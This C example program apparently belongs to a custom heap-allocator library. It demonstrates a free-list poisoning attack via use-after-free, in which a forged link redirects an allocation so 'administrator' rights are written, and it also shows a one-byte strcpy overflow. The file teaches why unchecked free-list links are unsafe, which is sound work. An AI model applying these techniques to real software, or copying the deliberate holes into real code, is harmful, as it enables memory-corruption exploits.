/*
 * attack.c - the classic attack on a free list, and an overflow of one byte.
 *
 *      gcc -DHALLOC_LIBRARY -I. examples/attack.c halloc.c -lrt -o attack
 *      ./attack own          a heap with a policy of our own: links lie in free blocks, and nobody checks them
 *      ./attack malloc       the same against malloc
 *      ./attack overflow     a name that is one byte too long
 *
 * The attacker can write into one object that is free already: the program forgot that it freed it. He wants to
 * write somewhere else.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "halloc.h"

/* --- What he is after ------------------------------------------------------------------------------------ */

/* Twice the same memory: for the heap a free block, for the program its rights. A block's payload begins at
 * nextFree. */
static union {
    MemoryBlock block;
    struct {
        char header[offsetof(MemoryBlock, nextFree)];
        char rights[16];
    } program;
} prize = {.block = {.size = 64, .isFree = 1}};

static int end(void) {
    printf("rights: %s\n", *prize.program.rights ? prize.program.rights : "none");
    return 0;
}

/* --- A policy of our own: the block that became free last ----------------------------------------------- */

static MemoryBlock *find(const halloc_free_set *set, size_t size) {
    MemoryBlock *block = set->root[0];
    while (block && halloc_probe(set, block) < size)
        block = block->nextFree;
    return block;
}

static void insert(halloc_free_set *set, MemoryBlock *block) {
    block->nextFree = set->root[0];
    set->root[0] = block;
}

static void take_out(halloc_free_set *set, MemoryBlock *block) {
    MemoryBlock **link = &set->root[0];
    while (*link != block)
        link = &(*link)->nextFree;
    *link = block->nextFree;
}

static const halloc_policy policy = {.name = "trusting", .find = find, .insert = insert, .remove = take_out};

/* --- The attack ------------------------------------------------------------------------------------------ */

static halloc_heap *heap;

static char *take(size_t bytes) {
    return heap ? halloc_heap_allocate(heap, bytes) : malloc(bytes);
}

static void give(void *ptr) {
    heap ? halloc_heap_deallocate(heap, ptr) : free(ptr);
}

/* The compiler must not know the pointer, or it would see the mistake. */
static void *hidden(void *ptr) {
    void *volatile same = ptr;
    return same;
}

static int attack(void) {
    char *note = take(64), *wall = take(64);
    give(note);
    /* The mistake: `note` is free, and its first word is a link. What he writes there is an address. */
    void *forged = heap ? (void *)&prize.block : prize.program.rights;
    memcpy(hidden(note), &forged, sizeof forged);
    char *mine = take(64);  /* the note's place again */
    char *yours = take(64); /* where the link led      */
    memcpy(yours, "administrator", 14);
    printf("a note at %p, a wall at %p; then %p and %p\n", (void *)note, (void *)wall, (void *)mine,
           (void *)yours);
    return end();
}

static int overflow(void) {
    const char *input = "a name of 24 characters.."; /* 25, and the end */
    char *name = hidden(malloc(24));
    strcpy(name, input);
    printf("hello, %s\n", name);
    free(name);
    return end();
}

int main(int argc, char **argv) {
    const char *what = argc == 2 ? argv[1] : "none";
    if (strcmp(what, "own") == 0) {
        halloc_policy_register(&policy);
        heap = halloc_heap_create(&(halloc_heap_options){.fit = "trusting", .pages = 1});
    }
    if (strcmp(what, "own") == 0 || strcmp(what, "malloc") == 0)
        return attack();
    if (strcmp(what, "overflow") == 0)
        return overflow();
    puts("own\nmalloc\noverflow");
    return 0;
}
